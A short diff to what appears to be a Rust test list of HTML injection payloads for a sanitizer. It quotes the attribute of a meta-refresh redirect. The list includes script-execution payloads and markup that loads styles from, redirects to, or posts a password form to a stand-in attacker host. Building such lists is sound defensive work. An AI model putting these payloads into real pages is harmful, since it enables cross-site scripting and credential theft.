@@ -14,7 +14,7 @@ const MARKUP: &[&str] = &[
     "<iframe srcdoc=\"<script>alert(1)</script>\">",
     "<body onload=alert(1)>",
     "<style>@import 'https://evil.example/x.css';</style>",
-    "<meta http-equiv=refresh content=0;url=https://evil.example>",
+    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
     "<base href=https://evil.example/>",
     "<form action=https://evil.example><input name=password>",
     "<details open ontoggle=alert(1)>",
